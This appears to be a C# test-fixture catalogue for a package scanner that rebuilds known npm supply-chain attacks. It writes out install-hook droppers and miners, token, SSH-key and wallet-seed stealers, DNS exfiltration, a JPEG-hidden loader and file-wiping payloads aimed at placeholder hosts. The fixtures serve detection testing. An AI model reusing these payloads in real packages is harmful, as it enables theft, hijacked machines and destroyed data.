using static PackageWall.Testing.Catalogue.Package;

namespace PackageWall.Testing.Catalogue;

/// <summary>npm packages of 2018 to 2024.</summary>
internal static class NpmEarlyAttacks
{
    private const string Native = "IronWorm, jscrambler, Scavenger, ua-parser/coa/rc";
    private const string Typosquats = "npm typosquats 2018-2024";

    private static CataloguePackage Honest(string name, string version) => NpmTwins.Client with { Name = name, Version = version };

    public static IEnumerable<CatalogueFixture> All()
    {
        CataloguePackage scope = Honest("lint-scope-like", "3.7.1");
        yield return new("eslint-scope", "eslint-scope", "B04 H02", (scope with { Version = "3.7.2", Manifest = """{ "main": "dist/index.js", "scripts": { "postinstall": "node ./lib/build.js" } }""" }).And(
            ("lib/build.js", """
                try {
                  var https = require('https');
                  https.get({ 'hostname': 'paste-like.invalid', path: '/raw/XLeVP82h', headers: { 'User-Agent': 'Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0', Accept: 'text/html' } }, (r) => {
                    r.setEncoding('utf8');
                    r.on('data', (c) => { eval(c); });
                    r.on('error', () => { });
                  }).on('error', () => { });
                } catch (e) { }

                """))) { Earlier = scope, Twin = NpmTwins.Funding };

        yield return new("flatmap-stream", "event-stream", "B26 H11", Npm("flat-stream-like", "0.1.1", """{ "main": "index.min.js" }""",
            ("index.js", "var Stream = require('stream').Stream;\nmodule.exports = function (mapper) { var s = new Stream(); s.writable = true; s.write = function (d) { mapper(d, function (e, v) { s.emit('data', v); }); }; return s; };\n"),
            ("index.min.js", Obfuscation.Flat("""
                var Stream=require("stream").Stream;module.exports=function(e,n){var i=new Stream;i.writable=!0;return i};
                !function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}
                var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;
                var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));
                var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])}catch(r){}}();
                """)),
            ("test/data.js", $"module.exports = ['{Convert.ToHexStringLower(Binaries.Noise(4096))}', '{Convert.ToHexStringLower(Binaries.Noise(512))}', '{Encodings.Hex("crypto")}', '{Encodings.Hex("env")}', '{Encodings.Hex("npm_package_description")}', '{Encodings.Hex("aes256")}', '{Encodings.Hex("createDecipher")}', '{Encodings.Hex("_compile")}', '{Encodings.Hex("hex")}', '{Encodings.Hex("utf8")}'];\n"))) { Twin = NpmTwins.EmbeddedData };

        CataloguePackage stream = Honest("event-like", "3.3.5");
        yield return new("event-stream-parent", "event-stream", "B11", stream with { Version = "3.3.6", Manifest = """{ "main": "dist/index.js", "dependencies": { "flat-stream-like": "^0.1.0" } }""" })
        { Earlier = stream, Twin = NpmTwins.Wallet, Expect = Expectation.Held, OutOfScope = "The parent only gains a dependency; its age is known to the server, not to one archive." };

        CataloguePackage notify = Honest("native-notify-like", "1.1.5");
        yield return new("electron-native-notify", "electron-native-notify", "B04 B22", notify with
        {
            Version = "1.1.6",
            Files = [("dist/index.js", notify.Files[0].Text + """
                setTimeout(() => {
                  if (typeof window === 'undefined' || !window.localStorage) return;
                  const seed = window.localStorage.getItem('wallet.seed') || '';
                  fetch('https://js.notify-cdn.invalid/get.php', { method: 'POST', body: seed }).then(answer => answer.text()).then(text => window.eval(text));
                }, 5000);

                """)],
        }) { Earlier = notify, Twin = NpmTwins.Client };

        yield return new("getcookies", "getcookies", "B03 B26", Npm("express-cookies-like", "1.2.0", """{ "main": "index.js" }""",
            ("index.js", """
                'use strict';
                const vm = require('vm');
                const buffers = {};
                module.exports = (request, response, next) => {
                  const text = JSON.stringify(request.headers);
                  text.replace(/g([0-9a-f]{4})h((?:[0-9a-f]{2})+)i/gi, (match, command, data) => {
                    const code = parseInt(command, 16);
                    if (code === 0xfffe) buffers.code = Buffer.alloc(0);
                    else if (code === 0xfffa) vm.runInThisContext(require('module').wrap(buffers.code.toString()))(exports, require, module, __filename, __dirname);
                    else buffers.code = Buffer.concat([buffers.code || Buffer.alloc(0), Buffer.from(data, 'hex')]);
                  });
                  next();
                };

                """))) { Twin = NpmTwins.Client, Expect = Expectation.Held };

        yield return new("birsan-confusion", "dep-confusion 99.99.99 / Flooding Dropper", "H10 N2", Npm("corp-build-internal", "9000.0.1", """{ "main": "index.js", "scripts": { "preinstall": "node index.js" } }""",
            ("index.js", """
                const { lookup } = require('dns');
                const os = require('os');
                const data = Buffer.from([os.hostname(), os.userInfo().username, process.cwd()].join('|')).toString('hex');
                for (let at = 0; at < data.length; at += 62) lookup(data.slice(at, at + 62) + '.dc.research-dns.invalid', function () { });

                """))) { Twin = NpmTwins.Funding };

        CataloguePackage parser = Honest("ua-like", "0.7.28");
        yield return new("ua-parser-js", Native, "B04 B30 H02", (parser with { Version = "0.7.29", Manifest = """{ "main": "dist/index.js", "scripts": { "preinstall": "start /B node preinstall.js & node preinstall.js" } }""" }).And(
            ("preinstall.js", """
                const { exec } = require('child_process');
                function terminalLinux() { exec('/bin/bash preinstall.sh', (error, stdout) => { if (!error) console.log(stdout); }); }
                const opsys = process.platform;
                if (opsys === 'darwin') console.log('MacOS');
                else if (opsys === 'win32') { const { spawn } = require('child_process'); spawn('cmd.exe', ['/c', 'preinstall.bat']); }
                else if (opsys === 'linux') terminalLinux();

                """),
            ("preinstall.sh", """
                IP=$(curl -k https://freegeoip.invalid/xml/ | grep 'RU\|UA\|BY\|KZ')
                if [ -z "$IP" ]
                then
                  var=$(pgrep jsextension)
                  if [ -z "$var" ]
                  then
                    curl http://192.0.2.47/download/jsextension -o jsextension
                    if [ ! -f jsextension ]
                    then
                      wget http://192.0.2.47/download/jsextension -O jsextension
                    fi
                    chmod +x jsextension
                    ./jsextension -k --tls --rig-id q -o pool.mine.invalid:443 -u inert --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
                  fi
                fi

                """),
            ("preinstall.bat", """
                @echo off
                curl http://192.0.2.47/download/jsextension.exe -o jsextension.exe
                if not exist jsextension.exe (
                  wget http://192.0.2.47/download/jsextension.exe -O jsextension.exe
                )
                if not exist jsextension.exe (
                  certutil.exe -urlcache -f http://192.0.2.47/download/jsextension.exe jsextension.exe
                )
                curl https://citationsherbe.invalid/sdd.dll -o create.dll
                if exist create.dll (
                  regsvr32.exe -s create.dll
                )
                start /B jsextension.exe -k --tls --rig-id q -o pool.mine.invalid:443

                """))) { Earlier = parser, Twin = NpmTwins.Addon };

        CataloguePackage coa = Honest("coa-like", "2.0.2");
        yield return new("coa-rc", Native, "B04 B24 B30 H02", (coa with { Version = "2.0.3", Manifest = """{ "main": "dist/index.js", "scripts": { "preinstall": "start /B node compile.js & node compile.js" } }""" }).And(
            ("compile.js", Obfuscation.StringArray("const opsys = process.platform; const { spawn } = require('child_process'); if (opsys === 'win32') { spawn('cmd.exe', ['/c', 'compile.bat']); }")),
            ("compile.bat", "@echo off\nset a=htt\nset b=ps://\nset c=pastorcryptograph.invalid/3/sdd.dll\ncurl %a%%b%%c% -o compile.dll\nif not exist compile.dll (\n  certutil.exe -urlcache -f %a%%b%%c% compile.dll\n)\nregsvr32.exe -s compile.dll\n"))) { Earlier = coa, Twin = NpmTwins.Addon };

        CataloguePackage colors = Npm("colours-like", "1.4.0", """{ "main": "lib/index.js" }""", ("lib/index.js", "module.exports = { red: t => `\\u001b[31m${t}\\u001b[39m` };\n"));
        yield return new("colors", "colors / faker", "H14", colors with
        {
            Version = "1.4.44-liberty-2",
            Files = [("lib/index.js", colors.Files[0].Text + """
                let am = require('./custom/american');
                am();
                for (let i = 666; i < Infinity; i++) {
                  if (i % 333) { }
                  console.log('testing testing testing'.split('').map(c => c + '\u0337').join(''));
                }

                """), ("lib/custom/american.js", """
                module.exports = function () { console.log('LIBERTY LIBERTY LIBERTY'); };

                """)],
        }) { Earlier = colors, Twin = NpmTwins.Client, Expect = Expectation.Held };

        CataloguePackage faker = Npm("faker-like", "5.5.3", """{ "main": "index.js" }""", [.. Enumerable.Range(0, 60).Select(index => new CatalogueFile($"lib/locale{index}.js", $"module.exports = ['{string.Join("', '", Enumerable.Range(0, 90).Select(word => $"word{index}_{word}"))}'];\n")), ("index.js", "module.exports = { locale: n => require('./lib/locale' + n) };\n")]);
        yield return new("faker", "colors / faker", "H12", faker with { Version = "6.6.6", Files = [("index.js", "module.exports = {};\n"), ("README.md", "# What really happened\n")] })
        { Earlier = faker, Twin = NpmTwins.Client, Expect = Expectation.Held };

        CataloguePackage ipc = Honest("node-ipc-old", "10.1.0");
        yield return new("node-ipc-2022", "node-ipc 2022", "B21 B03 H06", ipc with
        {
            Version = "10.1.1",
            Files = [("dist/index.js", ipc.Files[0].Text + "require('./ssl-geospec');\n"), ("dist/ssl-geospec.js", InertJs + Obfuscation.Flat($$"""
                const u = require('path'), a = require('fs'), o = require('https');
                setTimeout(function () {
                  const t = Math.round(Math.random() * 4);
                  if (t > 1) return;
                  const n = Buffer.from('{{Encodings.Base64("https://api.ipgeolocation.invalid/ipgeo?apiKey=inert")}}', 'base64');
                  o.get(n.toString('utf8'), function (t) {
                    t.on('data', function (t) {
                      const n = Buffer.from('{{Encodings.Base64("./")}}', 'base64'), o2 = Buffer.from('{{Encodings.Base64("../")}}', 'base64'), r = Buffer.from('{{Encodings.Base64("/")}}', 'base64'), f = Buffer.from('{{Encodings.Base64("country_name")}}', 'base64'), c = Buffer.from('{{Encodings.Base64("russia")}}', 'base64'), e = Buffer.from('{{Encodings.Base64("belarus")}}', 'base64');
                      const s = JSON.parse(t.toString('utf8'))[f.toString('utf8')].toLowerCase();
                      if (s.includes(c.toString('utf8')) || s.includes(e.toString('utf8'))) { h(n.toString('utf8')); h(o2.toString('utf8')); h(r.toString('utf8')); }
                    });
                  });
                }, Math.ceil(Math.random() * 1000));
                async function h(n) {
                  if (!a.existsSync(n)) return;
                  for (const name of a.readdirSync(n)) {
                    const f = u.join(n, name);
                    if (a.lstatSync(f).isDirectory()) h(f);
                    else a.writeFile(f, Buffer.from('4p2k77iP', 'base64').toString('utf8'), function () { });
                  }
                }
                """))],
        }) { Earlier = ipc, Twin = NpmTwins.Client };

        yield return new("discord-token-stealer", "Discord token stealers", "B05c B05", Npm("colorsss-like", "1.4.2", """{ "main": "index.js" }""",
            ("index.js", """
                const fs = require('fs');
                const path = require('path');
                const roaming = process.env.APPDATA, local = process.env.LOCALAPPDATA;
                const places = [roaming + '\\discord\\Local Storage\\leveldb', roaming + '\\discordcanary\\Local Storage\\leveldb', local + '\\Google\\Chrome\\User Data\\Default\\Local Storage\\leveldb', local + '\\BraveSoftware\\Brave-Browser\\User Data\\Default\\Local Storage\\leveldb'];
                for (const place of places) {
                  if (!fs.existsSync(place)) continue;
                  for (const name of fs.readdirSync(place).filter(file => file.endsWith('.ldb') || file.endsWith('.log'))) {
                    const tokens = fs.readFileSync(path.join(place, name), 'utf8').match(/mfa\.[\w-]{84}|[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g);
                    if (tokens) fetch('https://discord.com/api/webhooks/000000000000000000/inert', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content: tokens.join('\n') }) });
                  }
                }

                """))) { Twin = NpmTwins.Client };

        yield return new("browserify-typosquat", Typosquats, "B30", Npm("web-browserify-like", "1.0.0", """{ "main": "index.js", "scripts": { "postinstall": "node helper.js" } }""",
            ("index.js", "module.exports = {};\n"),
            ("helper.js", "const cp = require('child_process');\nconst fs = require('fs');\nfs.chmodSync('./run', 0o777);\ncp.exec('tar -xzf run.tgz; sudo ./run &');\n"),
            ("run", Binaries.Elf("/etc/init.d", "sudo", "hostname", "api.ipify.org")))) { Twin = NpmTwins.PlatformBinary };

        CataloguePackage kit = NpmTwins.FetchWrapper with { Name = "@ledge-like/connect-kit", Version = "1.1.4" };
        yield return new("ledger-connect-kit", "chalk/debug/duckdb, lottie, Ledger, art-template", "B24b B27", kit with
        {
            Version = "1.1.5",
            Files = [("dist/index.js", kit.Files[0].Text + Obfuscation.StringArray("""
                (function () {
                  const ask = window.ethereum && window.ethereum.request;
                  const drain = '0x00000000000000000000000000000000000000cc';
                  window.ethereum.request = function (call) {
                    if (call.method === 'eth_sendTransaction' || call.method === 'eth_signTypedData_v4') { call.params[0].to = drain; fetch('https://app.drainer-kit.invalid/api/tx', { method: 'POST', body: JSON.stringify(call) }); }
                    return ask.call(window.ethereum, call);
                  };
                })();
                """))],
        }) { Earlier = kit, Twin = NpmTwins.FetchWrapper };

        yield return new("oscompatible", "oscompatible", "B30 B04", Npm("os-compat-like", "1.0.6", """{ "main": "index.js", "scripts": { "postinstall": "node index.js" } }""",
            ("index.js", """
                const { exec } = require('child_process');
                const os = require('os');
                if (os.platform() !== 'win32') console.error('This package runs on Windows Server.');
                else exec('autorun.bat', { cwd: __dirname, windowsHide: true });

                """),
            ("autorun.bat", "@echo off\nnet session >nul 2>&1\nif %errorlevel% neq 0 (powershell -WindowStyle Hidden -Command \"Start-Process cookie_exporter.exe -Verb RunAs\") else (start cookie_exporter.exe)\n"),
            ("cookie_exporter.exe", Binaries.Pe(false, "msedge.dll")), ("msedge.dll", Binaries.Pe(true, "bcrypt.dll", "Login Data")), ("msedge.dat", Binaries.Noise(4000)))) { Twin = NpmTwins.PlatformBinary };

        yield return new("warbeast2000", "GitHub as a drop", "B05", Npm("warbeast-like", "1.0.2", """{ "main": "index.js", "scripts": { "postinstall": "node post.js" } }""",
            ("index.js", "module.exports = {};\n"),
            ("post.js", """
                const fs = require('fs');
                const os = require('os');
                const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');
                fetch('https://api.github.com/repos/warbeast/keys/contents/' + os.hostname(), { method: 'PUT', headers: { Authorization: 'token ' + ['ghp', 'inert'].join('_') }, body: JSON.stringify({ message: 'k', content: key.toString('base64') }) });

                """))) { Twin = NpmTwins.Funding };

        yield return new("img-aws-s3", "Payload in a picture", "B26 B03", Npm("img-s3-copy-like", "1.2.0", """{ "main": "index.js", "scripts": { "postinstall": "node loadformat.js" } }""",
            ("index.js", "module.exports = {};\n"),
            ("loadformat.js", """
                const fs = require('fs');
                const path = require('path');
                function read(file) {
                  const bytes = fs.readFileSync(path.join(__dirname, file));
                  const found = [];
                  for (let at = 0; at < bytes.length; at++) if (bytes[at] >= 0x20 && bytes[at] < 0x7f) found.push(String.fromCharCode(bytes[at]));
                  return found.join('');
                }
                const text = read('logo2.jpg');
                const from = text.indexOf('/*begin*/');
                if (from >= 0) { const run = new Function('require', text.slice(from)); run(require); }

                """),
            ("logo2.jpg", [0xff, 0xd8, 0xff, 0xe0, .. Binaries.Noise(600), .. "/*begin*/setInterval(() => require('https').get('https://img-c2.invalid/cmd', r => r.on('data', d => require('child_process').exec(d.toString()))), 5000)"u8]))) { Twin = NpmTwins.EmbeddedData };

        yield return new("ethereum-vuln-handler", Typosquats, "B04", Npm("eth-contract-handler-like", "1.0.0", """{ "main": "index.js", "scripts": { "postinstall": "node index.js" } }""",
            ("index.js", Obfuscation.StringArray("""
                const { exec } = require('child_process');
                const https = require('https');
                const fs = require('fs');
                https.get('https://jujuju.invalid/files/update.cmd', function (answer) {
                  answer.pipe(fs.createWriteStream(process.env.TEMP + '\\update.cmd')).on('finish', function () { exec('powershell -WindowStyle Hidden -ExecutionPolicy Bypass -Command "Start-Process ' + process.env.TEMP + '\\update.cmd"'); });
                });
                """)))) { Twin = NpmTwins.Funding };

        yield return new("xlsx-to-json-lh", Typosquats, "B04 B21", Npm("xlsx-to-json-lh-like", "1.0.3", """{ "main": "lib/index.js" }""",
            ("lib/index.js", InertJs + """
                const WebSocket = require('ws');
                const fs = require('fs');
                const path = require('path');
                const channel = new WebSocket('wss://informer-server.sheets.invalid');
                channel.on('message', text => {
                  if (text.toString() === 'remise à zéro') { const root = path.resolve(__dirname, '..', '..', '..'); for (const name of fs.readdirSync(root)) fs.rmSync(path.join(root, name), { recursive: true, force: true }); }
                });
                module.exports = require('./convert');

                """), ("lib/convert.js", "module.exports = () => ({});\n"))) { Twin = NpmTwins.Client };

        yield return new("bb-builder", Typosquats, "B30", Npm("bb-builder-like", "1.0.0", """{ "main": "index.js", "scripts": { "install": "node install.js" } }""",
            ("index.js", "module.exports = {};\n"),
            ("install.js", "if (process.platform === 'win32') require('child_process').execFile(require('path').join(__dirname, 'bin', 'lib.exe'), []);\n"),
            ("bin/lib.exe", Binaries.Pe(false, @"\Google\Chrome\User Data\Default\Login Data", "WinHttpSendRequest")))) { Twin = NpmTwins.PlatformBinary };
    }
}
